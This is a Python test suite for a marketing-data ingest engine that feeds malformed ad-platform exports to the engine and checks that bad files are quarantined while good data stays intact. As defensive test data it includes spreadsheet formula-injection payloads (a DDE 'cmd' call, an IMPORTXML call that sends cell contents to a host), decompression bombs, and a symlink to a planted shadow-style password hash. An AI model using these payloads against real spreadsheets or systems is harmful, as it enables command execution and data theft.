"""Malformed exports never crash ingest, each bad file gets one clear error naming it, good data stays put.

Hypothesis mutates the real-layout fixtures (truncation, wrong encoding, missing/renamed/duplicate columns,
garbage and huge numbers, empty files, blank or deleted lines, random bytes, formula-injection cells) and
feeds them in batches to one in-memory warehouse that already holds good data (the real Fivetran sample and
the LinkedIn fixture, whose platforms/accounts the mutated files never share).
"""

from __future__ import annotations

import codecs
import csv
import datetime as dt
import io
import itertools
import shutil
import stat
from pathlib import Path

import numpy as np
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from mktdash import params, paths
from mktdash.ingest import engine as ingest
from mktdash.warehouse.backend import Warehouse

FIX = Path(__file__).resolve().parents[1] / "fixtures" / "exports"
FIVETRAN_SAMPLE = FIX.parent / "external" / "fivetran_ad_report_sample.csv"
TODAY = dt.date(2026, 1, 1)

# fixture -> (encoding, separator, header line, parsed numeric columns, a text column)
BASES = {
    "google_ads_campaign_day.csv": (
        "utf-8",
        ",",
        3,
        ["Impr.", "Clicks", "Cost", "Conversions", "Conv. value"],
        "Campaign",
    ),
    "meta_ads_manager_daily.csv": (
        "utf-8",
        ",",
        1,
        ["Amount spent (USD)", "Impressions", "Link clicks", "Results"],
        "Ad name",
    ),
    "microsoft_ads_campaign.csv": (
        "utf-8-sig",
        ",",
        11,
        ["Impressions", "Clicks", "Spend", "Revenue"],
        "Campaign name",
    ),
    "tiktok_ads_daily.csv": (
        "utf-8",
        ",",
        1,
        ["Cost", "Impressions", "Clicks (destination)", "Conversions"],
        "Ad name",
    ),
    "google_ads_editor_2025-07-08.csv": (
        "utf-16",
        "\t",
        1,
        ["Clicks", "Impr.", "Cost", "Conv. value"],
        "Ad Group",
    ),
}
# "latin1" is not here: Windows-1252 text (what Excel writes on Windows) is read (docs/formats.md)
MUST_FAIL = {"empty", "garbage", "huge", "dup_header", "drop_header_cell"}
GARBAGE = st.one_of(
    st.sampled_from(["abc", "1..2", "12,3,4.5.6", "$$", "--x", "N/A!", "1e", "0x1F", "½"]),
    st.from_regex(r"[A-Za-z#$&]{1,6}", fullmatch=True),
)
HUGE = st.sampled_from(["1e400", "-1e400", "99999999999999999999", "5e15", "-7e13", "inf", "NaN"])
FORMULAS = st.sampled_from(
    [
        '=HYPERLINK("http://x","y")',
        "=1+2",
        "+cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "-2+3+cmd|' /C calc'!A0",
        '=IMPORTXML(CONCAT("http://x/?",A1),"//a")',
    ]
)
OPS = [
    "truncate",
    "empty",
    "latin1",
    "utf16_nobom",
    "drop_header_cell",
    "rename_col",
    "dup_header",
    "garbage",
    "huge",
    "formula",
    "blank_line",
    "delete_line",
    "random_bytes",
]
EXAMPLES, PER_EXAMPLE = 40, 5  # 200 malformed files per run (derandomized: the same 200 every run)
COUNTER = itertools.count()
SEEN_OPS: set[str] = set()


def _lines(text: str) -> list[str]:
    return text.split("\n")


def _rows_for(lines: list[str], header: int, sep: str) -> list[int]:
    """Indexes (0-based) of data lines: after the header, not footers or blanks."""
    out = []
    for i in range(header, len(lines)):
        cells = next(csv.reader([lines[i].rstrip("\r")], delimiter=sep), [])
        if cells and cells[0].strip() and not cells[0].startswith(("Total", "\u00a9")):
            out.append(i)
    return out


def _edit_cell(line: str, sep: str, col: int, value: str) -> str:
    cr = "\r" if line.endswith("\r") else ""
    cells = next(csv.reader([line.rstrip("\r")], delimiter=sep))
    cells[col] = value
    buf = io.StringIO()
    csv.writer(buf, delimiter=sep, lineterminator="").writerow(cells)
    return buf.getvalue() + cr


def _encode(text: str, enc: str) -> bytes:
    if enc == "utf-16":
        return codecs.BOM_UTF16_LE + text.encode("utf-16-le")
    return text.encode(enc)


@st.composite
def variant(draw: st.DrawFn, op: str | None = None) -> tuple[str, str, bytes]:
    """A malformed copy of a fixture: ``op`` (one of ``OPS``) applied, or a drawn one."""
    name = draw(st.sampled_from(sorted(BASES)))
    enc, sep, header, numeric, text_col = BASES[name]
    raw = (FIX / name).read_bytes()
    text = raw.decode("utf-16" if enc == "utf-16" else "utf-8-sig")
    lines = _lines(text)
    head = next(csv.reader([lines[header - 1].rstrip("\r")], delimiter=sep))
    data = _rows_for(lines, header, sep)
    op = op or draw(st.sampled_from(OPS))
    if op == "truncate":
        return op, name, _encode(text[: draw(st.integers(0, len(text) - 1))], enc)
    if op == "empty":
        return op, name, draw(st.sampled_from([b"", b"   \n", b"\xef\xbb\xbf", b"\xff\xfe", b"\r\n\r\n"]))
    if op == "latin1":
        i = draw(st.sampled_from(data))
        lines[i] = _edit_cell(lines[i], sep, head.index(text_col), "Café Crème – ü")
        return op, name, "\n".join(lines).encode("latin-1", errors="replace")
    if op == "utf16_nobom":
        return op, name, text.encode("utf-16-le")
    if op in ("drop_header_cell", "rename_col", "dup_header"):
        j = draw(st.integers(0, len(head) - 1))
        if op == "drop_header_cell":
            del head[j]
        elif op == "rename_col":
            head[j] = draw(st.from_regex(r"[A-Za-z ]{1,12}", fullmatch=True))
        else:
            k = draw(st.integers(0, len(head) - 1).filter(lambda x: x != j))
            head[j] = head[k]
        buf = io.StringIO()
        csv.writer(buf, delimiter=sep, lineterminator="").writerow(head)
        cr = "\r" if lines[header - 1].endswith("\r") else ""
        lines[header - 1] = buf.getvalue() + cr
        return op, name, _encode("\n".join(lines), enc)
    if op in ("garbage", "huge", "formula"):
        i = draw(st.sampled_from(data))
        if op == "formula":
            col, value = head.index(text_col), draw(FORMULAS)
        else:
            col, value = (
                head.index(draw(st.sampled_from(numeric))),
                draw(GARBAGE if op == "garbage" else HUGE),
            )
        lines[i] = _edit_cell(lines[i], sep, col, value)
        return op, name, _encode("\n".join(lines), enc)
    if op == "blank_line":
        lines.insert(draw(st.sampled_from(data)), "")
        return op, name, _encode("\n".join(lines), enc)
    if op == "delete_line":
        del lines[draw(st.integers(0, len(lines) - 1))]
        return op, name, _encode("\n".join(lines), enc)
    pos = draw(st.integers(0, len(raw)))
    return op, name, raw[:pos] + draw(st.binary(min_size=1, max_size=12)) + raw[pos:]


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory):  # type: ignore[no-untyped-def]
    home = tmp_path_factory.mktemp("robust")
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("MKTDASH_HOME", str(home))
        mp.setenv("MKTDASH_PII_SALT", "robust")
        wh = Warehouse.memory()
        cfg = params.resolve()
        rep = ingest.ingest_paths(
            wh, [FIVETRAN_SAMPLE, FIX / "linkedin_campaign_performance.csv"], cfg, progress=False, today=TODAY
        )
        assert [f.status for f in rep.files] == ["loaded", "loaded"]
        good_ids = [f.ingest_id for f in rep.files]
        yield wh, cfg, home, good_ids, _good_totals(wh, good_ids)


def _good_totals(wh: Warehouse, ids: list[str | None]) -> tuple:
    inlist = ", ".join(f"'{i}'" for i in ids)
    r = wh.sql(
        f"SELECT count(*) n, sum(clicks) c, round(sum(spend), 2) s, round(sum(conversions_value), 2) v "
        f"FROM ad_daily WHERE ingest_id IN ({inlist})"
    )
    return tuple(r.iloc[0].tolist())


@settings(max_examples=EXAMPLES, deadline=None, derandomize=True, suppress_health_check=list(HealthCheck))
@given(batch=st.lists(variant(), min_size=PER_EXAMPLE, max_size=PER_EXAMPLE))
def test_malformed_exports(world, batch: list[tuple[str, str, bytes]]) -> None:  # type: ignore[no-untyped-def]
    _ingest_and_check(world, batch)


@pytest.mark.parametrize("op", OPS)
@settings(max_examples=3, deadline=None, derandomize=True, suppress_health_check=list(HealthCheck))
@given(data=st.data())
def test_every_mutation(world, op: str, data: st.DataObject) -> None:  # type: ignore[no-untyped-def]
    """Every kind of damage, whatever the property test above happened to draw (up to three files each)."""
    _ingest_and_check(world, [data.draw(variant(op))])


def _ingest_and_check(world, batch: list[tuple[str, str, bytes]]) -> None:  # type: ignore[no-untyped-def]
    wh, cfg, home, good_ids, good = world
    folder = home / "mutants"
    folder.mkdir(exist_ok=True)
    files = []
    for op, name, data in batch:
        p = folder / f"{next(COUNTER):04d}_{op}_{name}"
        p.write_bytes(data)
        files.append((op, p))
        SEEN_OPS.add(op)
    q_before = wh.count("quarantine")
    rep = ingest.ingest_paths(wh, [p for _, p in files], cfg, progress=False, today=TODAY)  # never raises
    assert len(rep.files) == len(files)
    by_name = {Path(f.file).name: f for f in rep.files}
    for op, p in files:
        f = by_name[p.name]
        assert f.status in ("loaded", "replaced", "duplicate", "quarantined"), f
        if op in MUST_FAIL:
            assert f.status == "quarantined", (op, p.name, f.status)
        if f.status == "quarantined":
            assert f.error and p.name in f.error, f.error  # the message names the file
    n_bad = len(rep.by_status("quarantined"))
    assert wh.count("quarantine") == q_before + n_bad  # one quarantine row per bad file
    assert _good_totals(wh, good_ids) == good  # good data untouched
    texts = wh.sql("SELECT campaign_name, ad_group_name, ad_name, account_name FROM ad_daily")
    for c in texts.columns:  # formula cells never land as-is
        s = texts[c].dropna().astype(str)
        assert not s.str.match(r"^[=+@]").any(), s[s.str.match(r"^[=+@]")].tolist()
    # no half-loaded file: every ad row belongs to a ledger row that says loaded/replaced
    orphans = wh.sql(
        "SELECT count(*) n FROM ad_daily a LEFT JOIN ingest_ledger l ON a.ingest_id = l.ingest_id "
        "AND l.status IN ('loaded', 'replaced') WHERE l.ingest_id IS NULL"
    )
    assert int(orphans["n"][0]) == 0


def test_enough_variants_were_generated() -> None:
    """Runs after the two tests above (file order): they really fed >= 200 files covering every mutation."""
    n = next(COUNTER)
    if n == 0:
        pytest.skip("run together with test_malformed_exports")
    assert n >= 200 + len(OPS)
    assert set(OPS) == SEEN_OPS, set(OPS) - SEEN_OPS


# ---- hostile inbox entries, bounds, failures while reading (issue 21) -----------------------------------------
PROBE = """
import json, sys, datetime as dt
import psutil
from mktdash import params
from mktdash.ingest import engine as ingest
from mktdash.warehouse.backend import Warehouse
wh, cfg = Warehouse.memory(), params.resolve()
warm = ingest.ingest_paths(wh, [sys.argv[2]], cfg, progress=False, today=dt.date(2026, 1, 1))
assert warm.files[0].status == "loaded", warm.files[0]
def hwm():  # this process's peak RSS (VmHWM: unlike ru_maxrss, not inherited from the forked parent)
    line = next(ln for ln in open("/proc/self/status") if ln.startswith("VmHWM:"))
    return int(line.split()[1]) * 1024
base = psutil.Process().memory_info().rss
before = hwm()
rep = ingest.ingest_paths(wh, [sys.argv[1]], cfg, progress=False, today=dt.date(2026, 1, 1))
peak = hwm()
f = rep.files[0]
print(json.dumps({"base": base, "before": before, "peak": peak, "status": f.status, "reason": f.reason,
                  "ledger": int(wh.count("ingest_ledger"))}))
"""


def _probe(file: Path, home: Path) -> dict:
    """Ingest ``file`` in a fresh process (after a small warm-up file); its peak RSS above the warm base
    (an over-estimate: the peak includes the warm-up's, which the base, measured after it, does not)."""
    import json
    import os
    import subprocess
    import sys

    env = {**os.environ, "MKTDASH_HOME": str(home), "MKTDASH_PII_SALT": "probe"}
    env["PYTHONPATH"] = str(Path(ingest.__file__).parents[2])
    out = subprocess.run(
        [sys.executable, "-c", PROBE, str(file), str(FIX / "tiktok_ads_daily.csv")],
        env=env, capture_output=True, text=True, timeout=600, check=True,
    )  # fmt: skip
    return json.loads(out.stdout.strip().splitlines()[-1])


def _inode_bytes(folder: Path) -> int:
    """Bytes on disk under ``folder``, each inode once (hard links are not copies)."""
    seen: dict[int, int] = {}
    for p in folder.rglob("*"):
        if p.is_file() and not p.is_symlink():
            st = p.stat()
            seen[st.st_ino] = st.st_size
    return sum(seen.values())


def test_parquet_bomb_is_refused_from_its_footer_in_bounded_memory(tmp_path: Path) -> None:
    """1 MB of Parquet declaring 20M rows (the issue's bomb): refused by the footer, never expanded."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    n = 20_000_000
    idx = pa.array(np.zeros(n, dtype=np.int8))
    col = lambda v: pa.DictionaryArray.from_arrays(idx, pa.array([v]))  # noqa: E731
    table = pa.table({"source_relation": col("bomb"), "date_day": col("2025-07-01"),
                      "platform": col("google_ads"), "campaign_name": col("Brand"), "spend": col("1.0")})  # fmt: skip
    bomb = tmp_path / "inbox" / "ad_reporting.parquet"
    bomb.parent.mkdir()
    pq.write_table(table, bomb, row_group_size=2_000_000)
    del table
    assert bomb.stat().st_size < 2_000_000  # a small file ...
    assert pq.read_metadata(bomb).num_rows == n  # ... declaring 20M rows
    got = _probe(bomb, tmp_path / "home")
    assert got["status"] == "quarantined" and "20,000,000 rows" in got["reason"], got
    assert got["ledger"] == 2  # the warm-up file and the bomb: every file has its ledger row
    assert got["peak"] - got["base"] < 150e6, got  # expanded, 20M rows x 5 strings would take GBs


def test_giant_cell_is_refused_without_reading_it_whole(tmp_path: Path) -> None:
    """A valid header, then one 64 MB cell: refused by the streaming pre-scan (cell bound 256 KB) with memory
    far below the file's size, and the original kept once (raw copy + hard link in quarantine)."""
    big = tmp_path / "inbox" / "tiktok_giant.csv"
    big.parent.mkdir()
    header = (FIX / "tiktok_ads_daily.csv").read_text().splitlines()[0]
    with big.open("w") as f:
        f.write(header + "\n")
        for _ in range(64):
            f.write("A" * (1 << 20))
        f.write(",Broad,Ad,2025-07-07,USD,1.00,10,1,1%,0,0\n")
    size = big.stat().st_size
    home = tmp_path / "home"
    got = _probe(big, home)
    assert got["status"] == "quarantined" and "a cell longer than 256 KB" in got["reason"], got
    assert got["peak"] - got["base"] < 48e6, got  # the cell alone is 64 MB
    raw = _inode_bytes(home / "data")
    assert size <= raw < size + 5e6, (size, raw)  # one copy of the original (plus the small warm-up file)
    quarantined = list((home / "data" / "quarantine").glob("*tiktok_giant.csv"))
    assert len(quarantined) == 1 and quarantined[0].stat().st_nlink == 2  # a link to the raw copy


@pytest.fixture
def inbox_env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):  # type: ignore[no-untyped-def]
    monkeypatch.setenv("MKTDASH_HOME", str(tmp_path / "home"))
    monkeypatch.setenv("MKTDASH_PII_SALT", "robust")
    inbox = paths.inbox_dir()
    inbox.mkdir(parents=True)
    return Warehouse.memory(), params.resolve(), inbox, tmp_path


def _everything(wh: Warehouse, home: Path) -> str:
    """Every warehouse table as text plus every file's bytes under the home (lossy-decoded)."""
    text = "".join(wh.df(t).astype(str).to_csv() for t in wh.tables())
    for p in home.rglob("*"):
        if p.is_file() and not p.is_symlink():
            text += p.read_bytes().decode("utf-8", errors="replace")
    return text


def test_inbox_refuses_links_fifos_devices_and_never_reads_them(inbox_env) -> None:  # type: ignore[no-untyped-def]
    import os

    wh, cfg, inbox, tmp = inbox_env
    secret = tmp / "shadow"
    secret.write_text("root:$6$PLANTEDSECRETHASH:19000:0:99999:7:::\n")
    outside = tmp / "elsewhere"
    outside.mkdir()
    shutil.copy(FIX / "meta_ads_manager_daily.csv", outside / "meta.csv")
    shutil.copy(FIX / "tiktok_ads_daily.csv", inbox / "tiktok.csv")
    (inbox / "shadow.csv").symlink_to(secret)
    (inbox / "linked_folder").symlink_to(outside, target_is_directory=True)
    os.mkfifo(inbox / "pipe.csv")
    kinds = {"shadow.csv": "symbolic link", "linked_folder": "symbolic link", "pipe.csv": "FIFO"}
    try:
        os.mknod(inbox / "dev.csv", 0o600 | stat.S_IFCHR, os.makedev(1, 3))  # /dev/null's numbers
        kinds["dev.csv"] = "character device"
    except PermissionError:
        pass
    rep = ingest.ingest_inbox(wh, cfg, progress=False, today=TODAY)
    got = {f.shown_as: f for f in rep.files}
    assert got["tiktok.csv"].status == "loaded"
    for name, kind in kinds.items():
        assert got[name].status == "quarantined" and kind in (got[name].reason or ""), got[name]
        assert "not read" in (got[name].reason or "") and got[name].hint
    assert set(got) == {"tiktok.csv", *kinds}  # the linked folder was not entered (meta.csv not listed)
    assert wh.count("ingest_ledger") == 1 + len(kinds) and wh.count("quarantine") == len(kinds)
    assert "PLANTEDSECRETHASH" not in _everything(wh, paths.home())
    from mktdash.runner import archive

    assert set(archive.input_hashes(inbox)) == {"data/inbox/tiktok.csv"}  # the run's manifest reads no link
    assert wh.count("ad_daily") == got["tiktok.csv"].rows > 0  # the linked folder's meta rows never loaded
    again = ingest.ingest_inbox(wh, cfg, progress=False, today=TODAY)  # refused once, not every run
    assert {f.status for f in again.files} == {"unchanged", "quarantined"}
    assert wh.count("ingest_ledger") == 1 + len(kinds)
    text = again.explain()
    assert "shadow.csv" in text and "what to do:" in text and "quarantined" in text


def test_a_path_resolving_outside_the_folder_is_refused(tmp_path: Path) -> None:
    from mktdash.ingest import guard as ingest_guard

    inside = tmp_path / "inbox"
    inside.mkdir()
    f = inside / "x.csv"
    f.write_text("a\n")
    assert ingest_guard.check_entry(f, inside) is None
    assert "outside the inbox" in str(ingest_guard.check_entry(f, tmp_path / "other"))


@pytest.mark.parametrize("boom", ["MemoryError", "ArrowMemoryError", "RuntimeError", "RecursionError"])
def test_any_failure_reading_a_file_quarantines_it_and_the_batch_goes_on(
    inbox_env, monkeypatch: pytest.MonkeyPatch, boom: str
) -> None:  # type: ignore[no-untyped-def]
    import pyarrow as pa

    from mktdash.ingest import sources

    wh, cfg, inbox, _ = inbox_env
    shutil.copy(FIX / "tiktok_ads_daily.csv", inbox / "a_tiktok.csv")
    shutil.copy(FIX / "meta_ads_manager_daily.csv", inbox / "b_meta.csv")
    exc = {"MemoryError": MemoryError, "RuntimeError": RuntimeError, "RecursionError": RecursionError,
           "ArrowMemoryError": pa.ArrowMemoryError}[boom]  # fmt: skip

    def fail(path: Path, ctx: object) -> None:
        raise exc("out of memory allocating 8589934592 bytes")

    monkeypatch.setattr(sources.get("tiktok"), "read", fail)
    rep = ingest.ingest_inbox(wh, cfg, progress=False, today=TODAY)
    st = {f.shown_as: f for f in rep.files}
    assert st["a_tiktok.csv"].status == "quarantined" and st["b_meta.csv"].status == "loaded"
    assert boom in (st["a_tiktok.csv"].reason or "")
    assert wh.count("ingest_ledger") == 2
    rep2 = ingest.ingest_inbox(wh, cfg, progress=False, today=TODAY)  # not retried by every later run
    assert [f.status for f in rep2.files] == ["quarantined", "unchanged"]
    assert wh.count("ingest_ledger") == 2


def _limits(**kw: float) -> object:
    from mktdash.ingest import guard as ingest_guard

    return ingest_guard.Limits(**kw)  # type: ignore[arg-type]


def _refused(path: Path, **kw: float) -> str:
    from mktdash.ingest import guard as ingest_guard
    from mktdash.ingest.sources import SourceError

    try:
        ingest_guard.prescan(path, _limits(**kw))  # type: ignore[arg-type]
    except SourceError as e:
        return e.message
    return ""


def test_prescan_bounds_text_lines_rows_gzip_and_zip(tmp_path: Path) -> None:
    import gzip
    import zipfile

    long_line = tmp_path / "wide.csv"
    long_line.write_text("a,b\n" + "1," * 600_000 + "1\n")  # 1.2 MB line of 1-byte cells
    assert "a line longer than 1024 KB" in _refused(long_line)
    assert _refused(long_line, max_line_kb=2048) == ""  # the cell bound does not fire on short cells
    rows = tmp_path / "rows.csv"
    rows.write_text("a\n" + "1\n" * 2_000)
    assert "more than 500 rows" in _refused(rows, max_rows=500)
    assert _refused(rows, max_rows=1_500) == ""
    bomb = tmp_path / "bomb.csv.gz"
    with gzip.open(bomb, "wb") as g:
        for _ in range(40):
            g.write(b"1,2,3,4,5,6,7,8,9,10,11,12,13,14,15,16,17,18,19,20,21,22\n" * 20_000)  # 48 MB
    assert bomb.stat().st_size < 500_000
    assert "decompresses to more than 8 MB" in _refused(bomb, max_decompressed_mb=8)
    assert _refused(bomb, max_decompressed_mb=64) == ""
    z = tmp_path / "report.xlsx"
    with zipfile.ZipFile(z, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("xl/worksheets/sheet1.xml", b"<c>0</c>" * 3_000_000)  # 24 MB
    assert "declares 23 MB of content" in _refused(z, max_decompressed_mb=8)
    assert _refused(z, max_decompressed_mb=64) == ""
    utf16 = tmp_path / "editor.csv"
    utf16.write_bytes(("a\tb\n" + "x" * 3000 + "\t1\n").encode("utf-16"))
    assert "a cell longer than 2 KB" in _refused(utf16, max_cell_kb=2)  # counted in characters
    assert _refused(utf16, max_cell_kb=4) == ""


def test_oversize_file_is_refused_by_its_size_and_not_copied(inbox_env) -> None:  # type: ignore[no-untyped-def]
    wh, _, inbox, _ = inbox_env
    cfg = params.resolve(overrides={"ingest": {"limits": {"max_file_mb": 1}}})
    big = inbox / "tiktok_big.csv"
    big.write_text((FIX / "tiktok_ads_daily.csv").read_text() * 1 + "x" * 2_000_000)
    rep = ingest.ingest_inbox(wh, cfg, progress=False, today=TODAY)
    f = rep.files[0]
    assert f.status == "quarantined" and "over the 1 MB bound" in (f.reason or "")
    assert "ingest.limits.max_file_mb" in (f.hint or "")
    assert not (paths.raw_dir()).exists() or _inode_bytes(paths.raw_dir()) == 0  # no copy in data/raw ...
    assert not list(ingest.quarantine_dir().glob("*"))  # ... nor in data/quarantine
    led = wh.df("ingest_ledger")
    assert led["raw_path"].tolist() == [str(big)]  # the original stays where it is, named in the ledger


def test_every_fixture_passes_the_prescan() -> None:
    """The bounds never refuse a genuine layout (UTF-16, preambles, Parquet, YAML)."""
    files = [p for p in FIX.iterdir() if p.is_file()]
    assert len(files) > 15
    assert {p.name: _refused(p) for p in files if _refused(p)} == {}


def test_prescan_names_the_line_across_block_boundaries(tmp_path: Path) -> None:
    """Bytes are scanned in 1 MiB blocks: a line of short cells straddling a boundary is fine, a long cell
    there is refused with its line number (known answers: header + 230,400 short lines, then the line)."""
    from mktdash.ingest import guard as ingest_guard
    from mktdash.ingest.sources import SourceError

    f = tmp_path / "x.csv"
    f.write_text("a,b\n" + "1,2\n" * 230_400 + "1," * 127 * 1024 + "\n")  # a 254 KB line across 1 MiB
    assert f.stat().st_size > ingest_guard.BLOCK and _refused(f) == ""
    f.write_text("a,b\n" + "1,2\n" * 230_400 + "1," * 30 * 1024 + "z" * 257 * 1024 + "\n")
    with pytest.raises(SourceError, match="a cell longer than 256 KB") as e:
        ingest_guard.prescan(f, ingest_guard.Limits())
    assert e.value.line == 230_402 and "ingest.limits.max_cell_kb" in e.value.hint
    f.write_text("a,b\n" + "1,2\n" * 5 + "1," * 600_000 + "\n")
    with pytest.raises(SourceError, match="a line longer than 1024 KB") as e:
        ingest_guard.prescan(f, ingest_guard.Limits(max_cell_kb=2048))
    assert e.value.line == 7


def test_one_gigabyte_cell_is_refused_by_size_without_a_copy(tmp_path: Path) -> None:
    """The issue's case literally: a valid header and one 1 GiB cell (a sparse file: no disk used). Over
    max_file_mb (512) it is refused from its size: hashed as a stream once, never parsed, never copied."""
    big = tmp_path / "inbox" / "tiktok_gigacell.csv"
    big.parent.mkdir()
    header = (FIX / "tiktok_ads_daily.csv").read_text().splitlines()[0]
    with big.open("w") as f:
        f.write(header + "\nSpark ")
        f.truncate(1 << 30)
    home = tmp_path / "home"
    got = _probe(big, home)
    assert got["status"] == "quarantined" and "over the 512 MB bound" in got["reason"], got
    assert got["peak"] - got["base"] < 48e6, got
    assert _inode_bytes(home / "data") < 1e6  # no copy in data/raw or data/quarantine


def test_a_failing_check_or_a_refused_value_quarantines_only_that_file(
    inbox_env, monkeypatch: pytest.MonkeyPatch
) -> None:  # type: ignore[no-untyped-def]
    """A bug in a check on one file's rows, or the warehouse refusing one of its values, refuses that file
    (rolled back, ledger row written) instead of ending every later run; I/O errors still propagate."""
    import duckdb

    from mktdash.ingest import quality

    wh, cfg, inbox, _ = inbox_env
    shutil.copy(FIX / "tiktok_ads_daily.csv", inbox / "a_tiktok.csv")
    shutil.copy(FIX / "meta_ads_manager_daily.csv", inbox / "b_meta.csv")
    shutil.copy(FIX / "linkedin_campaign_performance.csv", inbox / "c_linkedin.csv")
    real_validate, real_insert = quality.validate, ingest._insert

    def validate(f, table, *, file, **kw):  # type: ignore[no-untyped-def]
        if "a_tiktok" in str(file):
            raise TypeError("unsupported operand")
        return real_validate(f, table, file=file, **kw)

    def insert(wh_, name, rows):  # type: ignore[no-untyped-def]
        if name == "ad_daily" and (rows["platform"] == "meta").any():
            raise duckdb.ConversionException("Could not convert string to TIMESTAMP")
        return real_insert(wh_, name, rows)

    monkeypatch.setattr(quality, "validate", validate)
    monkeypatch.setattr(ingest, "_insert", insert)
    rep = ingest.ingest_inbox(wh, cfg, progress=False, today=TODAY)
    st = {f.shown_as: f for f in rep.files}
    assert st["a_tiktok.csv"].status == "quarantined" and "could not check its rows (TypeError)" in str(
        st["a_tiktok.csv"].reason
    )
    assert st["b_meta.csv"].status == "quarantined" and "ConversionException" in str(st["b_meta.csv"].reason)
    assert st["c_linkedin.csv"].status == "loaded"
    assert set(wh.df("ad_daily")["platform"]) == {"linkedin"}  # nothing of the refused files stayed
    assert wh.count("ingest_ledger") == 3
